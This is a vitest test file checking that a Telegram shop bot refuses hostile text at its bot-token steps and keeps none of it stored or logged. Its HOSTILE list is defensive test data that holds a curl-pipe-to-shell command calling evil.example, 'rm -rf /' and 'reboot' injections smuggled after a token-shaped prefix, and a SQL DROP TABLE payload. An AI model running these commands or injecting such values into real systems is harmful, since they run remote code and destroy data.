import { describe, expect, it } from 'vitest';
import { BOT_TOKEN, type BotWorld, startBotWorld } from '../../../test/telegram/bot-world.js';
import { mainHead, openBot, openPrs, sendAndWait } from './test-support.js';

/**
 * Hostile text where the bot takes a bot token (the only free text that reaches the fleet repo):
 * 100 KB, shell syntax, quotes, SQL, newlines after a token-shaped prefix. Each is refused as not
 * a token, the message holding it is deleted, and it reaches neither the fleet repo, nor an order,
 * nor the bot's stored state, nor the logs. (bad-input.test.ts covers 4,000 characters, prose and
 * a revoked token at the purchase's token step; token.test.ts the good and revoked replacements.)
 */

const VALID_SHAPE = '7000000099:AAH_alpha-shop_replacement_token_0123';
const HOSTILE = [
  // 100 KB: 25 times Telegram's 4,096; about the most the emulator takes in one request (express's 100 KiB).
  'z'.repeat(100_000),
  '$(curl -s https://evil.example/x | sh)',
  '`reboot`',
  `${VALID_SHAPE}\n$(touch /tmp/pwned)`,
  `${VALID_SHAPE}"; rm -rf / #`,
  "7000000099:AAH_quote'in_the_middle_of_it_0123456",
  "'); DROP TABLE orders; --",
  `${VALID_SHAPE} ${VALID_SHAPE}`,
];
/** A piece of each value that must be found nowhere afterwards. */
const MARKERS = ['z'.repeat(1000), 'evil.example', '`reboot`', '/tmp/pwned', 'rm -rf', "quote'in", 'DROP TABLE', VALID_SHAPE];

/** Where a refused value could have been kept: the bot's state, the logs, the chat as it is now. */
async function kept(world: BotWorld): Promise<string> {
  const state = await world.db.pool.query<{ v: string }>(`SELECT key || ' ' || value::text AS v FROM bot_state`);
  const orders = await world.db.pool.query<{ v: string }>(`SELECT o::text AS v FROM orders o`);
  const chat = JSON.stringify(world.emulator.server.getUpdatesHistory(BOT_TOKEN));
  return [...state.rows.map((r) => r.v), ...orders.rows.map((r) => r.v), chat, ...world.logged].join('\n');
}

describe('hostile bot tokens (emulator, real fleet repo)', () => {
  it('refuses each as not a token when replacing a bot token, deletes it, and keeps it nowhere', async (ctx) => {
    const world = await startBotWorld(ctx);
    // Known to the emulator's getMe: were the token-shaped prefix ever cut out and checked, it would pass.
    world.emulator.customerBots.set(VALID_SHAPE, { id: 7_000_000_099, username: 'alpha_shop_new_bot' });
    const head = await mainHead(world);
    const alice = world.user(200_001, { firstName: 'Alice' });
    await openBot(alice, 'alpha-shop');
    await alice.press('Replace the bot token');
    await alice.waitFor('Send me the new token of alpha-shop');

    for (const value of HOSTILE) {
      await sendAndWait(alice, value, 'That is not a bot token');
      await alice.press('Try again');
      await alice.next('Send me the new token of alpha-shop');
    }
    await sendAndWait(alice, '/cancel', 'Cancelled: nothing was changed.');

    expect(await mainHead(world)).toBe(head);
    expect(await openPrs(world)).toEqual([]);
    const everything = await kept(world);
    for (const marker of MARKERS) expect(everything.includes(marker), marker).toBe(false);
  }, 120_000);

  it('refuses each as not a token at the purchase token step, saving no order', async (ctx) => {
    const world = await startBotWorld(ctx);
    world.emulator.customerBots.set(VALID_SHAPE, { id: 7_000_000_099, username: 'dan_shop_bot' });
    const head = await mainHead(world);
    const dan = world.user(300_004, { firstName: 'Dan' });
    await sendAndWait(dan, '/buy', 'choose a plan');
    await dan.press('Basic');
    await dan.waitFor('Now choose a name');
    await sendAndWait(dan, 'dan-shop', 'Choose the modules');
    await dan.press('Continue');
    await dan.waitFor('Last step');

    for (const value of HOSTILE) await sendAndWait(dan, value, '❌ That is not a bot token');

    expect(await world.deps.orders.get('dan-shop')).toBeNull();
    expect(await mainHead(world)).toBe(head);
    expect(await openPrs(world)).toEqual([]);
    const everything = await kept(world);
    for (const marker of MARKERS) expect(everything.includes(marker), marker).toBe(false);
  }, 120_000);
});
